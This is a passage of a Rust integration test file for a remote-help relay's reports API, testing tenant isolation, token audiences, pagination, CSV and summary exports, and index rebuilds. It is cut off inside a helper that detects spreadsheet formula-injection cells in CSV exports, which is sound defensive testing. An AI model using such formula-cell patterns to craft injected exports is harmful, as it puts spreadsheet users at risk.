//! The reports API over real HTTP to a real relay: tenant administrators' tokens (real
//! signed JWTs for the administration audience), a generated month of audit history written
//! by the audit writer's own code, and live sessions over real QUIC.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::net::SocketAddr;
use std::time::{Duration, SystemTime};

use common::{TestRelay, http, with_claims, within};
use remote_help_proto::ErrorCode;
use remote_help_relay::audit::{
    AuditConfig, EventKind, KEY_FILE, audit_files, read_events, write_history,
};
use remote_help_relay::config::DEFAULT_AUDIENCE;
use remote_help_relay::core::Mode;
use remote_help_relay::dev::Persona;
use remote_help_relay::issuer::TokenSigner;
use remote_help_relay::report::index::{IndexedSession, ReportIndex};
use remote_help_relay::report::synth::{Spec, history};
use remote_help_relay::report::{self, Filter, SessionRow};
use serde_json::{Value, json};

use common::{ADMIN_AUDIENCE, OPERATOR_TOKEN, report_roles};

/// Contoso and Fabrikam, 29 days of generated history (about `events` events) in the
/// audit folder before the relay opens it, report roles, and the operator token.
async fn relay_with_history(events: u64) -> TestRelay {
    TestRelay::builder()
        .tenant(
            "contoso",
            TokenSigner::generate_ed25519("contoso-1").unwrap(),
        )
        .tenant(
            "fabrikam",
            TokenSigner::generate_ed25519("fabrikam-1").unwrap(),
        )
        .policy("contoso", report_roles)
        .policy("fabrikam", report_roles)
        .config(move |c| {
            c.admin.token = Some(OPERATOR_TOKEN.into());
            let spec = Spec {
                tenants: vec![("contoso".into(), 3), ("fabrikam".into(), 1)],
                days: 29,
                events,
                end: SystemTime::now() - Duration::from_secs(3600),
                seed: 21,
                batch: 500,
            };
            write_history(
                AuditConfig {
                    dir: c.audit.dir.clone(),
                    max_file_bytes: c.audit.max_file_bytes,
                    retention_days: c.audit.retention_days,
                    reserve_bytes: 0,
                    key_file: Some(c.state_dir.join(KEY_FILE)),
                },
                history(&spec),
            )
            .unwrap();
        })
        .start()
        .await
}

/// A tenant administrator's token: the helper persona, the administration audience,
/// `groups` as given.
fn admin_token(relay: &TestRelay, tenant: &str, groups: &[&str]) -> String {
    let t = relay.tenant(tenant);
    let mut spec = with_claims(t.spec(Persona::Helper), json!({ "groups": groups }));
    spec.audience = ADMIN_AUDIENCE.into();
    spec.subject = format!("{tenant}-admin");
    t.sign(&spec)
}

async fn get_json(admin: SocketAddr, path: &str, token: &str) -> (u16, Value) {
    let (status, body) = http(admin, "GET", path, Some(token)).await;
    let value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: {e}: {body}"));
    (status, value)
}

/// Every page of `/sessions` with `query`, following cursors; fails on a repeated row.
async fn all_pages(admin: SocketAddr, token: &str, query: &str) -> Vec<IndexedSession> {
    let mut rows: Vec<IndexedSession> = Vec::new();
    let mut seen = BTreeSet::new();
    let mut cursor: Option<String> = None;
    for _ in 0..10_000 {
        let path = match &cursor {
            Some(c) => format!("/api/v1/reports/sessions?{query}&cursor={c}"),
            None => format!("/api/v1/reports/sessions?{query}"),
        };
        let (status, page) = get_json(admin, &path, token).await;
        assert_eq!(status, 200, "{path}: {page}");
        for row in page["sessions"].as_array().unwrap() {
            let row: IndexedSession = serde_json::from_value(row.clone()).unwrap();
            assert!(
                seen.insert((row.row.tenant.clone(), row.row.session_id.clone())),
                "{} appears on two pages ({query})",
                row.row.session_id
            );
            rows.push(row);
        }
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_string()),
            None => return rows,
        }
    }
    panic!("pagination did not end");
}

/// What `relay sessions` reports for `tenant` from the relay's audit files.
fn audit_rows(relay: &TestRelay, tenant: &str) -> Vec<SessionRow> {
    let events = read_events(&audit_files(&relay.audit_dir()));
    report::sessions(
        &events,
        &Filter {
            tenant: Some(tenant.into()),
            ..Filter::default()
        },
    )
}

/// Which audit-log rows a filter keeps.
type Keep<'a> = Box<dyn Fn(&SessionRow) -> bool + 'a>;

fn start(row: &SessionRow) -> time::OffsetDateTime {
    remote_help_relay::audit::parse_time(&row.start_time).unwrap()
}

fn by_id(rows: impl IntoIterator<Item = SessionRow>) -> BTreeMap<String, SessionRow> {
    rows.into_iter()
        .map(|r| (r.session_id.clone(), r))
        .collect()
}

#[tokio::test]
async fn a_tenant_administrators_report_matches_the_audit_log_exactly_in_json_csv_and_summary() {
    let relay = relay_with_history(6_000).await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "contoso", &["report-readers"]);

    let api = all_pages(admin, &token, "limit=97&sort=start_time&order=asc").await;
    let expected = audit_rows(&relay, "contoso");
    assert!(
        expected.len() > 1000,
        "a month of sessions: {}",
        expected.len()
    );
    assert_eq!(
        api.iter().map(|s| s.row.clone()).collect::<Vec<_>>(),
        expected,
        "the API's rows are the audit log's, in start order"
    );
    assert!(api.iter().all(|s| s.row.tenant == "contoso"));

    // CSV: the same rows, the same values.
    let (status, csv) = http(admin, "GET", "/api/v1/reports/sessions.csv", Some(&token)).await;
    assert_eq!(status, 200);
    let records = common::csv::parse(&csv);
    let header = &records[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let csv_rows = &records[1..];
    assert_eq!(csv_rows.len(), expected.len());
    let expected_by_id = by_id(expected.clone());
    for cells in csv_rows {
        let row = &expected_by_id[&cells[column("session_id")]];
        assert_eq!(cells[column("helper")], row.helper);
        assert_eq!(cells[column("recipient")], row.sharer);
        assert_eq!(cells[column("device")], row.device);
        assert_eq!(cells[column("start_time")], row.start_time);
        assert_eq!(
            cells[column("duration_secs")].parse::<f64>().ok(),
            row.duration_secs
        );
        assert_eq!(cells[column("modes")], row.modes.join(";"));
        assert_eq!(
            cells[column("end_reason")],
            row.end_reason.clone().unwrap_or_default()
        );
    }

    // Summary: count, median and modes as `relay sessions` computes them.
    let (status, summary) = get_json(admin, "/api/v1/reports/summary", &token).await;
    assert_eq!(status, 200);
    let reference = report::summarize(&expected);
    assert_eq!(summary["sessions"], json!(reference.count));
    assert_eq!(
        summary["median_duration_secs"],
        json!(reference.median_secs)
    );
    assert_eq!(summary["by_mode"], json!(reference.by_mode));
    let mut durations: Vec<f64> = expected.iter().filter_map(|r| r.duration_secs).collect();
    durations.sort_by(f64::total_cmp);
    let p90 = durations[(0.9 * durations.len() as f64).ceil() as usize - 1];
    assert_eq!(summary["p90_duration_secs"], json!(p90));
    let mut platforms: BTreeMap<String, u64> = BTreeMap::new();
    for row in &expected {
        *platforms.entry(row.platform.clone()).or_default() += 1;
    }
    assert_eq!(summary["by_platform"], json!(platforms));
    let per_day: u64 = summary["sessions_per_day"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    assert_eq!(per_day as usize, reference.count);
    let (_, metrics) = http(admin, "GET", "/metrics", None).await;
    assert!(
        metrics.contains("relay_report_query_seconds_bucket{endpoint=\"summary\""),
        "query latency histogram"
    );
    let refusals: usize = read_events(&audit_files(&relay.audit_dir()))
        .iter()
        .filter(|e| e.tenant == "contoso" && e.event == Some(EventKind::SessionRefused))
        .count();
    let counted: u64 = summary["refusals_by_reason"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    assert_eq!(counted as usize, refusals);
    relay.stop().await;
}

#[tokio::test]
async fn every_sort_pages_without_duplicates_or_gaps_and_filters_select_what_the_log_says() {
    let relay = relay_with_history(3_000).await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "contoso", &["report-readers"]);
    let expected = by_id(audit_rows(&relay, "contoso"));
    for sort in ["start_time", "duration", "helper", "recipient", "device"] {
        for order in ["asc", "desc"] {
            let rows = all_pages(
                admin,
                &token,
                &format!("limit=41&sort={sort}&order={order}"),
            )
            .await;
            let ids: BTreeSet<&str> = rows.iter().map(|r| r.row.session_id.as_str()).collect();
            assert_eq!(
                ids,
                expected.keys().map(String::as_str).collect(),
                "{sort} {order}: every session once"
            );
            let cmp = |a: &IndexedSession, b: &IndexedSession| match sort {
                "start_time" => start(&a.row).cmp(&start(&b.row)),
                "duration" => a
                    .row
                    .duration_secs
                    .unwrap_or(-1.0)
                    .total_cmp(&b.row.duration_secs.unwrap_or(-1.0)),
                "helper" => a.row.helper.cmp(&b.row.helper),
                "recipient" => a.row.sharer.cmp(&b.row.sharer),
                _ => a.row.device.cmp(&b.row.device),
            };
            for pair in rows.windows(2) {
                let ordering = cmp(&pair[0], &pair[1]);
                assert!(
                    if order == "asc" {
                        ordering.is_le()
                    } else {
                        ordering.is_ge()
                    },
                    "{sort} {order}: {:?} then {:?}",
                    pair[0].row,
                    pair[1].row
                );
            }
        }
    }

    // Filters, each against the same selection over the audit log's rows.
    let sample = expected
        .values()
        .find(|r| r.end_time.is_some())
        .unwrap()
        .clone();
    let since_row = expected.values().nth(expected.len() / 2).unwrap().clone();
    let since = &since_row.start_time;
    let since_at = start(&since_row);
    let filters: Vec<(String, Keep)> = vec![
        (
            format!("helper={}", sample.helper.replace(' ', "%20")),
            Box::new(|r: &SessionRow| r.helper == sample.helper),
        ),
        (
            format!("recipient={}", sample.sharer.replace(' ', "%20")),
            Box::new(|r: &SessionRow| r.sharer == sample.sharer),
        ),
        (
            format!("device={}", sample.device),
            Box::new(|r: &SessionRow| r.device == sample.device),
        ),
        (
            "mode=full_control".into(),
            Box::new(|r: &SessionRow| r.modes.iter().any(|m| m == "full_control")),
        ),
        (
            "end_reason=ADMIN_ENDED".into(),
            Box::new(|r: &SessionRow| r.end_reason.as_deref() == Some("ADMIN_ENDED")),
        ),
        (
            format!("since={since}"),
            Box::new(|r: &SessionRow| start(r) >= since_at),
        ),
        (
            format!("until={since}&mode=unattended"),
            Box::new(|r: &SessionRow| {
                start(r) < since_at && r.modes.iter().any(|m| m == "unattended")
            }),
        ),
    ];
    for (query, keep) in filters {
        let got: BTreeSet<String> = all_pages(admin, &token, &format!("limit=500&{query}"))
            .await
            .into_iter()
            .map(|r| r.row.session_id)
            .collect();
        let want: BTreeSet<String> = expected
            .values()
            .filter(|r| keep(r))
            .map(|r| r.session_id.clone())
            .collect();
        assert!(!want.is_empty(), "{query} selects something");
        assert_eq!(got, want, "{query}");
        // The export of the same filter holds the same sessions.
        let (_, csv) = http(
            admin,
            "GET",
            &format!("/api/v1/reports/sessions.csv?{query}"),
            Some(&token),
        )
        .await;
        let exported: BTreeSet<String> =
            common::csv::column(&common::csv::parse(&csv), "session_id")
                .into_iter()
                .collect();
        assert_eq!(exported, want, "csv {query}");
    }
    relay.stop().await;
}

#[tokio::test]
async fn another_tenants_sessions_look_exactly_like_a_tenant_that_does_not_exist_on_every_endpoint()
{
    let relay = relay_with_history(1_500).await;
    let admin = relay.handle.admin_addr().unwrap();
    let contoso = admin_token(&relay, "contoso", &["report-admins"]);
    let fabrikam = admin_token(&relay, "fabrikam", &["report-readers"]);
    let (_fh, _fs) = relay.paired("fabrikam", Mode::ViewOnly).await;

    // A real fabrikam session id, past and live.
    let (_, page) = get_json(admin, "/api/v1/reports/sessions?limit=1", &fabrikam).await;
    let past = page["sessions"][0]["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, active) = get_json(admin, "/api/v1/reports/active", &fabrikam).await;
    let live = active["sessions"][0]["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    // Fabrikam's own view finds them (so the comparisons below are about isolation).
    assert_eq!(
        http(
            admin,
            "GET",
            &format!("/api/v1/reports/sessions/{past}"),
            Some(&fabrikam)
        )
        .await
        .0,
        200
    );

    let pairs: Vec<(&str, String, String)> = vec![
        (
            "GET",
            "/api/v1/reports/active?tenant=fabrikam".into(),
            "/api/v1/reports/active?tenant=northwind".into(),
        ),
        (
            "GET",
            "/api/v1/reports/sessions?tenant=fabrikam".into(),
            "/api/v1/reports/sessions?tenant=northwind".into(),
        ),
        (
            "GET",
            "/api/v1/reports/sessions.csv?tenant=fabrikam".into(),
            "/api/v1/reports/sessions.csv?tenant=northwind".into(),
        ),
        (
            "GET",
            "/api/v1/reports/summary?tenant=fabrikam".into(),
            "/api/v1/reports/summary?tenant=northwind".into(),
        ),
        (
            "GET",
            format!("/api/v1/reports/sessions/{past}"),
            "/api/v1/reports/sessions/00000000deadbeef".into(),
        ),
        (
            "GET",
            format!("/api/v1/reports/sessions/{live}"),
            "/api/v1/reports/sessions/00000000deadbeef".into(),
        ),
        (
            "GET",
            format!("/api/v1/reports/sessions/{past}?tenant=fabrikam"),
            "/api/v1/reports/sessions/00000000deadbeef?tenant=northwind".into(),
        ),
        (
            "POST",
            format!("/api/v1/reports/sessions/{live}/end"),
            "/api/v1/reports/sessions/00000000deadbeef/end".into(),
        ),
        (
            "POST",
            format!("/api/v1/reports/sessions/{live}/end?tenant=fabrikam"),
            "/api/v1/reports/sessions/00000000deadbeef/end?tenant=northwind".into(),
        ),
    ];
    for (method, other_tenant, nowhere) in &pairs {
        let a = http(admin, method, other_tenant, Some(&contoso)).await;
        let b = http(admin, method, nowhere, Some(&contoso)).await;
        assert_eq!(a, b, "{method} {other_tenant} against {nowhere}");
    }
    // Contoso's own filtered views never hold fabrikam's sessions either.
    let own = all_pages(admin, &contoso, "limit=1000").await;
    assert!(own.iter().all(|s| s.row.tenant == "contoso"));
    let (_, csv) = http(admin, "GET", "/api/v1/reports/sessions.csv", Some(&contoso)).await;
    assert!(!csv.contains("fabrikam"));
    // The live fabrikam session is still running.
    let (_, active) = get_json(admin, "/api/v1/reports/active", &fabrikam).await;
    assert_eq!(active["sessions"][0]["session_id"], json!(live));
    // The operator's token sees both tenants.
    let (_, all) = get_json(admin, "/api/v1/reports/summary", OPERATOR_TOKEN).await;
    let (_, c) = get_json(admin, "/api/v1/reports/summary", &contoso).await;
    let (_, f) = get_json(admin, "/api/v1/reports/summary", &fabrikam).await;
    assert_eq!(
        all["sessions"].as_u64().unwrap(),
        c["sessions"].as_u64().unwrap() + f["sessions"].as_u64().unwrap()
    );
    relay.stop().await;
}

#[tokio::test]
async fn helper_tokens_are_refused_with_a_json_error_and_admin_tokens_cannot_start_sessions() {
    let relay = relay_with_history(200).await;
    let admin = relay.handle.admin_addr().unwrap();
    let helper_token = relay.tenant("contoso").token(Persona::Helper);
    // Even a helper in the report group: the audience is the session one.
    let t = relay.tenant("contoso");
    let helper_in_group = t.sign(&with_claims(
        t.spec(Persona::Helper),
        json!({ "groups": ["helpdesk", "report-readers"] }),
    ));
    for token in [&helper_token, &helper_in_group] {
        let (status, body) = get_json(admin, "/api/v1/reports/sessions", token).await;
        assert_eq!(status, 401, "{body}");
        assert_eq!(body["error"]["code"], "token_refused");
        assert_eq!(body["error"]["reason"], "wrong_audience");
    }
    let (status, body) = get_json(admin, "/api/v1/reports/summary", "").await;
    assert_eq!(
        (status, body["error"]["code"].clone()),
        (401, json!("unauthenticated"))
    );
    // The right audience without the permission.
    let no_role = admin_token(&relay, "contoso", &["helpdesk"]);
    let (status, body) = get_json(admin, "/api/v1/reports/sessions", &no_role).await;
    assert_eq!(
        (status, body["error"]["code"].clone()),
        (403, json!("permission_denied"))
    );
    // Bad parameters name themselves.
    let reader = admin_token(&relay, "contoso", &["report-readers"]);
    for (path, code) in [
        ("/api/v1/reports/sessions?sort=colour", "bad_request"),
        ("/api/v1/reports/sessions?since=yesterday", "bad_request"),
        ("/api/v1/reports/sessions?tenat=contoso", "bad_request"),
        ("/api/v1/reports/sessions?limit=0", "bad_request"),
        (
            "/api/v1/reports/sessions?cursor=bm90LWEtY3Vyc29y",
            "bad_cursor",
        ),
    ] {
        let (status, body) = get_json(admin, path, &reader).await;
        assert_eq!(
            (status, body["error"]["code"].clone()),
            (400, json!(code)),
            "{path}"
        );
    }
    // Each refusal is counted by its code, and answered queries are timed.
    let (_, metrics) = http(admin, "GET", "/metrics", None).await;
    for series in [
        "relay_report_errors_total{code=\"token_refused\"}",
        "relay_report_errors_total{code=\"permission_denied\"}",
        "relay_report_errors_total{code=\"bad_cursor\"}",
        "relay_report_index_rebuilds_total",
    ] {
        assert!(metrics.contains(series), "{series} missing from /metrics");
    }
    // An administration token does not open a session.
    let refused = relay
        .connect(reader.clone(), remote_help_relay::core::Role::Helper)
        .await;
    assert!(
        refused.is_err(),
        "an admin token must not authenticate a helper"
    );
    assert_eq!(DEFAULT_AUDIENCE.to_string() + "/admin", ADMIN_AUDIENCE);
    relay.stop().await;
}

#[tokio::test]
async fn a_tenant_administrator_ends_a_live_session_the_parties_hear_admin_ended_and_the_log_names_them()
 {
    let relay = relay_with_history(200).await;
    let admin = relay.handle.admin_addr().unwrap();
    let reader = admin_token(&relay, "contoso", &["report-readers"]);
    let ender = admin_token(&relay, "contoso", &["report-admins"]);
    let (mut helper, mut sharer) = relay.paired("contoso", Mode::FullControl).await;
    let (_, active) = get_json(admin, "/api/v1/reports/active", &reader).await;
    let id = active["sessions"][0]["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let end = format!("/api/v1/reports/sessions/{id}/end");
    let (status, body) = http(admin, "POST", &end, Some(&reader)).await;
    assert_eq!(status, 403, "reading is not ending: {body}");
    let (status, body) = http(admin, "POST", &end, Some(&ender)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(within(helper.wait_for_end()).await, ErrorCode::AdminEnded);
    assert_eq!(within(sharer.wait_for_end()).await, ErrorCode::AdminEnded);
    // The end is in the log, naming the administrator, and the index has caught up.
    let (status, detail) =
        get_json(admin, &format!("/api/v1/reports/sessions/{id}"), &reader).await;
    assert_eq!(status, 200, "{detail}");
    assert_eq!(detail["session"]["end_reason"], "ADMIN_ENDED");
    assert_eq!(detail["session"]["ended_by"], "administrator");
    assert_eq!(detail["session"]["administrator"], "tenant:contoso-admin");
    assert_eq!(detail["active"], false);
    let logged = read_events(&audit_files(&relay.audit_dir()))
        .into_iter()
        .find(|e| e.session_id == id && e.event == Some(EventKind::SessionEnded))
        .unwrap();
    assert_eq!(
        logged.administrator.as_deref(),
        Some("tenant:contoso-admin")
    );
    assert_eq!(http(admin, "POST", &end, Some(&ender)).await.0, 404);
    relay.stop().await;
}

#[tokio::test]
async fn an_index_deleted_under_a_running_relay_is_rebuilt_and_answers_the_same() {
    let relay = relay_with_history(1_500).await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "contoso", &["report-readers"]);
    let paths = [
        "/api/v1/reports/sessions?limit=1000&sort=duration",
        "/api/v1/reports/sessions.csv?mode=full_control",
        "/api/v1/reports/summary",
    ];
    let mut before = Vec::new();
    for path in paths {
        before.push(http(admin, "GET", path, Some(&token)).await);
    }
    let index = relay
        .audit_dir()
        .parent()
        .unwrap()
        .join("state")
        .join(remote_help_relay::report::index::INDEX_FILE);
    assert!(index.exists());
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", index.display()));
    }
    for (path, before) in paths.iter().zip(before) {
        let after = http(admin, "GET", path, Some(&token)).await;
        assert_eq!(after.0, 200, "{path}: {}", after.1);
        assert_eq!(after, before, "{path}");
    }
    assert!(index.exists(), "rebuilt");
    relay.stop().await;
}

#[tokio::test]
async fn an_index_that_cannot_be_rebuilt_answers_503_until_the_fault_is_gone_then_recovers_without_a_restart()
 {
    let relay = relay_with_history(1_000).await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "contoso", &["report-readers"]);
    let path = "/api/v1/reports/sessions?limit=1000";
    let before = http(admin, "GET", path, Some(&token)).await;
    assert_eq!(before.0, 200, "{}", before.1);

    // The fault, one root cannot write through either: a file where the state folder (the
    // index's parent) was. The index is gone from its place, so the next query rebuilds
    // it, and the rebuild cannot create a file there.
    let state = relay.audit_dir().parent().unwrap().join("state");
    let aside = state.with_file_name("state-aside");
    std::fs::rename(&state, &aside).unwrap();
    std::fs::write(&state, "not a folder").unwrap();
    for _ in 0..2 {
        let (status, body) = http(admin, "GET", path, Some(&token)).await;
        assert_eq!(status, 503, "{body}");
        assert!(body.contains("index_unavailable"), "{body}");
    }

    // The fault removed (space freed, permissions fixed): the next query answers, as
    // before, without a restart.
    std::fs::remove_file(&state).unwrap();
    std::fs::rename(&aside, &state).unwrap();
    let after = http(admin, "GET", path, Some(&token)).await;
    assert_eq!(after, before);
    relay.stop().await;
}

#[tokio::test]
async fn a_deleted_or_mismatched_index_is_rebuilt_with_identical_answers() {
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit");
    let spec = Spec {
        tenants: vec![("contoso".into(), 1)],
        days: 5,
        events: 2_000,
        end: SystemTime::now(),
        seed: 7,
        batch: 100,
    };
    write_history(
        AuditConfig {
            dir: audit.clone(),
            max_file_bytes: 64 << 20,
            retention_days: 30,
            reserve_bytes: 0,
            key_file: None,
        },
        history(&spec),
    )
    .unwrap();
    let path = dir.path().join("reports-index.sqlite");
    let all = |index: &ReportIndex| {
        index
            .all_sessions(&Default::default())
            .unwrap()
            .into_iter()
            .map(|s| s.row)
            .collect::<Vec<_>>()
    };
    let expected = report::sessions(&read_events(&audit_files(&audit)), &Filter::default());
    let first = ReportIndex::open(&path, &audit).unwrap();
    assert_eq!(all(&first), expected);
    let summary = first.summary(None, i64::MIN, i64::MAX).unwrap();
    drop(first);

    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", path.display()));
    }
    let rebuilt = ReportIndex::open(&path, &audit).unwrap();
    assert_eq!(all(&rebuilt), expected);
    assert_eq!(rebuilt.summary(None, i64::MIN, i64::MAX).unwrap(), summary);
    drop(rebuilt);

    // A file cut back (a write undone after a failed fsync) is noticed and re-read.
    let last = audit_files(&audit).pop().unwrap();
    let text = std::fs::read(&last).unwrap();
    let cut = text[..text.len() - 1]
        .iter()
        .rposition(|b| *b == b'\n')
        .unwrap()
        + 1;
    std::fs::write(&last, &text[..cut]).unwrap();
    let mut reopened = ReportIndex::open(&path, &audit).unwrap();
    reopened.catch_up().unwrap();
    let expected = report::sessions(&read_events(&audit_files(&audit)), &Filter::default());
    assert_eq!(all(&reopened), expected);

    // The last line read replaced by other lines, the file now longer than before: the
    // index notices its last line is gone and reads the file again.
    let text = std::fs::read(&last).unwrap();
    let cut = text[..text.len() - 1]
        .iter()
        .rposition(|b| *b == b'\n')
        .unwrap()
        + 1;
    let first_line_end = text.iter().position(|b| *b == b'\n').unwrap() + 1;
    let mut replaced = text[..cut].to_vec();
    for _ in 0..3 {
        replaced.extend_from_slice(&text[..first_line_end]);
    }
    assert!(replaced.len() > text.len());
    std::fs::write(&last, &replaced).unwrap();
    reopened.catch_up().unwrap();
    let expected = report::sessions(&read_events(&audit_files(&audit)), &Filter::default());
    assert_eq!(all(&reopened), expected);
}

/// The BENCHMARKS.md measurement (section "Reports"): 1,000,000 generated events over 30
/// days (a large tenant with 80 % of them), the index built from scratch, then each
/// endpoint over real HTTP. Not a pass/fail test: run it with
/// `cargo test -p remote-help-relay --all-features --test reports -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "a measurement: about a minute, prints BENCHMARKS.md figures"]
async fn bench_reports_on_a_million_events() {
    use std::time::Instant;
    let events: u64 = std::env::var("REPORT_BENCH_EVENTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let dir = tempfile::tempdir().unwrap();
    let (audit, state) = (dir.path().join("audit"), dir.path().join("state"));
    std::fs::create_dir_all(&state).unwrap();
    let started = Instant::now();
    write_history(
        AuditConfig {
            dir: audit.clone(),
            max_file_bytes: 64 << 20,
            retention_days: 30,
            reserve_bytes: 0,
            key_file: Some(state.join(KEY_FILE)),
        },
        history(&Spec {
            tenants: vec![("contoso".into(), 8), ("fabrikam".into(), 2)],
            days: 30,
            events,
            end: SystemTime::now() - Duration::from_secs(60),
            seed: 1,
            batch: 1000,
        }),
    )
    .unwrap();
    let written = started.elapsed();
    let audit_bytes: u64 = audit_files(&audit)
        .iter()
        .map(|p| std::fs::metadata(p).unwrap().len())
        .sum();
    let started = Instant::now();
    let index = ReportIndex::open(
        &state.join(remote_help_relay::report::index::INDEX_FILE),
        &audit,
    )
    .unwrap();
    let built = started.elapsed();
    let size = index.size_on_disk();
    drop(index);
    println!(
        "events {events}; audit files {:.1} MiB written in {:.1} s; index built in {:.2} s, {:.1} MiB on disk",
        audit_bytes as f64 / 1048576.0,
        written.as_secs_f64(),
        built.as_secs_f64(),
        size as f64 / 1048576.0
    );

    let (audit_dir, state_dir) = (audit.clone(), state.clone());
    let relay = TestRelay::builder()
        .tenant(
            "contoso",
            TokenSigner::generate_ed25519("contoso-1").unwrap(),
        )
        .tenant(
            "fabrikam",
            TokenSigner::generate_ed25519("fabrikam-1").unwrap(),
        )
        .policy("contoso", report_roles)
        .policy("fabrikam", report_roles)
        .config(move |c| {
            c.audit.dir = audit_dir;
            c.state_dir = state_dir;
        })
        .start()
        .await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "contoso", &["report-readers"]);
    let (status, first) = get_json(admin, "/api/v1/reports/sessions?limit=100", &token).await;
    assert_eq!(status, 200, "{first}");
    let ids: Vec<String> = first["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["session_id"].as_str().unwrap().to_string())
        .collect();
    let helper = first["sessions"][0]["helper_id"]
        .as_str()
        .unwrap()
        .to_string();
    // A cursor 50 pages deep.
    let mut cursor = first["next_cursor"].as_str().unwrap().to_string();
    for _ in 0..50 {
        let (_, page) = get_json(
            admin,
            &format!("/api/v1/reports/sessions?limit=100&cursor={cursor}"),
            &token,
        )
        .await;
        cursor = page["next_cursor"].as_str().unwrap().to_string();
    }
    let (_, summary) = get_json(admin, "/api/v1/reports/summary", &token).await;
    println!("contoso sessions in 30 days: {}", summary["sessions"]);
    let cases: Vec<(&str, Vec<String>, usize)> = vec![
        ("active", vec!["/api/v1/reports/active".into()], 200),
        (
            "sessions, newest page of 100",
            vec!["/api/v1/reports/sessions?limit=100".into()],
            200,
        ),
        (
            "sessions, page 51 by cursor",
            vec![format!(
                "/api/v1/reports/sessions?limit=100&cursor={cursor}"
            )],
            200,
        ),
        (
            "sessions, longest first",
            vec!["/api/v1/reports/sessions?limit=100&sort=duration".into()],
            100,
        ),
        (
            "sessions, helper + mode filter",
            vec![format!(
                "/api/v1/reports/sessions?limit=100&helper={helper}&mode=full_control"
            )],
            100,
        ),
        (
            "sessions, end_reason filter, 7 days",
            vec![format!(
                "/api/v1/reports/sessions?limit=100&end_reason=ADMIN_ENDED&since={}",
                remote_help_relay::audit::rfc3339(
                    SystemTime::now() - Duration::from_secs(7 * 86400)
                )
            )],
            100,
        ),
        (
            "session detail",
            ids.iter()
                .map(|id| format!("/api/v1/reports/sessions/{id}"))
                .collect(),
            200,
        ),
        (
            "summary, 30 days",
            vec!["/api/v1/reports/summary".into()],
            30,
        ),
        (
            "summary, 1 day",
            vec![format!(
                "/api/v1/reports/summary?since={}",
                remote_help_relay::audit::rfc3339(SystemTime::now() - Duration::from_secs(86400))
            )],
            100,
        ),
        (
            "csv, one helper, 30 days",
            vec![format!("/api/v1/reports/sessions.csv?helper={helper}")],
            50,
        ),
        (
            "csv, whole tenant, 30 days",
            vec!["/api/v1/reports/sessions.csv".into()],
            5,
        ),
    ];
    println!("| endpoint | requests | p50 ms | p99 ms | max ms |");
    println!("|---|---:|---:|---:|---:|");
    for (name, paths, n) in cases {
        let mut times = Vec::with_capacity(n);
        for i in 0..n {
            let path = &paths[i % paths.len()];
            let t = Instant::now();
            let (status, body) = http(admin, "GET", path, Some(&token)).await;
            times.push(t.elapsed().as_secs_f64() * 1000.0);
            assert_eq!(status, 200, "{path}: {body}");
        }
        times.sort_by(f64::total_cmp);
        let at =
            |p: f64| times[((p * times.len() as f64).ceil() as usize).clamp(1, times.len()) - 1];
        println!(
            "| {name} | {n} | {:.1} | {:.1} | {:.1} |",
            at(0.5),
            at(0.99),
            times[times.len() - 1]
        );
    }
    relay.stop().await;
}

#[tokio::test]
async fn a_tenants_own_administration_audience_replaces_the_relays_for_that_tenant_only() {
    let relay = TestRelay::builder()
        .tenant(
            "contoso",
            TokenSigner::generate_ed25519("contoso-1").unwrap(),
        )
        .tenant(
            "fabrikam",
            TokenSigner::generate_ed25519("fabrikam-1").unwrap(),
        )
        .policy("contoso", report_roles)
        .policy("fabrikam", report_roles)
        .config(|c| {
            let fabrikam = c
                .tenants
                .iter_mut()
                .find(|t| t.trust.id.as_str() == "fabrikam")
                .unwrap();
            fabrikam.admin_audience = Some("api://fabrikam-reports".into());
        })
        .start()
        .await;
    let admin = relay.handle.admin_addr().unwrap();
    let signed = |tenant: &str, audience: &str| {
        let t = relay.tenant(tenant);
        let mut spec = with_claims(
            t.spec(Persona::Helper),
            json!({ "groups": ["report-readers"] }),
        );
        spec.audience = audience.into();
        t.sign(&spec)
    };
    let status = |token: String| async move {
        http(admin, "GET", "/api/v1/reports/summary", Some(&token))
            .await
            .0
    };
    assert_eq!(
        status(signed("fabrikam", "api://fabrikam-reports")).await,
        200
    );
    assert_eq!(status(signed("fabrikam", ADMIN_AUDIENCE)).await, 401);
    assert_eq!(status(signed("contoso", ADMIN_AUDIENCE)).await, 200);
    assert_eq!(
        status(signed("contoso", "api://fabrikam-reports")).await,
        401
    );
    relay.stop().await;
}

/// A cell that a spreadsheet would run as a formula: after splitting at `separator` the way
/// spreadsheets do (a `"` opens or closes a quoted stretch anywhere, `""` inside is a
/// quote), a cell that starts with `=`, `+`, `-`, `@` or a tab.
fn formula_cells(csv: &str, separator: char) -> Vec<String> {
    let mut cells = Vec::new();
    for record in csv.split("\r\n") {
        let (mut cell, mut quoted) = (String::new(), false);
        let mut chars = record.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                '"' => quoted = !quoted,
                c if c == separator && !quoted => cells.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        cells.push(cell);
    }
    cells
        .into_iter()
